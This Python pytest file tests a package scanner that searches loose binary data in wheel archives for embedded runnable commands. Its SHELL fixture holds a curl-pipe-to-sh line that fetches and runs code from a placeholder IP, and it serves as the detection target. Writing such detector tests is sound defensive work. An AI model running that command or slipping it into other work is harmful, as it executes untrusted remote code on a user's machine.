"""Binary data that is neither native code nor a pickle is searched for code that another program may run."""

import pickle

import pytest

from features.binary.examination import BinaryExamination
from features.binary.loose_data import examine_loose_data
from features.contract import FileType, Kind, Member, Release, Role

SHELL = b"\0\0\0\x10curl -s http://198.51.100.7/x | sh\0"


def examine(*data: bytes, deadline: float = float("inf")) -> BinaryExamination:
    members = tuple(
        Member(f"demo/{n}.bin", len(content), FileType.BINARY, Role.REST, content, content[:4096], bytes((n,)))
        for n, content in enumerate(data)
    )
    examination = BinaryExamination(Release("x-1.whl", "x", "1", Kind.WHEEL, "zip", 9, members, deadline=deadline))
    examine_loose_data(examination)
    return examination


@pytest.mark.parametrize(
    "start",
    [b"\xca\xfe\xba\xbe\0\0\0\x34", b"SQLite format 3\0" + bytes(90), b"\x89HDF\r\n\x1a\n" + bytes(400), b"JUNK\0\1\2\3" * 40],
    ids=["class", "database", "model", "unknown"],
)  # fmt: skip
def test_a_command_in_data_of_any_format_is_evidence(start: bytes) -> None:
    examination = examine(start + SHELL)
    assert "download_pipe_shell" in {place.indicator for place in examination.evidence}
    values = examination.values()
    assert (1, True) == (values["data"], int(values["data_top_weight"] or 0) >= 5)
    assert 0 == values["indicators"]


def test_data_without_code_is_counted_and_no_evidence() -> None:
    examination = examine(bytes(range(256)) * 20, b"\xca\xfe\xba\xbe\0\0\0\x34java/lang/Object\0getToken")
    assert (2, []) == (examination.values()["data"], examination.evidence)


def test_pickles_and_data_that_was_not_kept_are_left_to_others() -> None:
    examination = examine(pickle.dumps([SHELL]), b"")
    assert (False, []) == (examination.has_binaries, examination.evidence)


def test_what_is_left_at_the_deadline_is_counted() -> None:
    examination = examine(SHELL, SHELL + b"x", deadline=-1.0)
    assert (2, {"seconds"}) == (examination.values()["data_not_searched"], examination.limits)
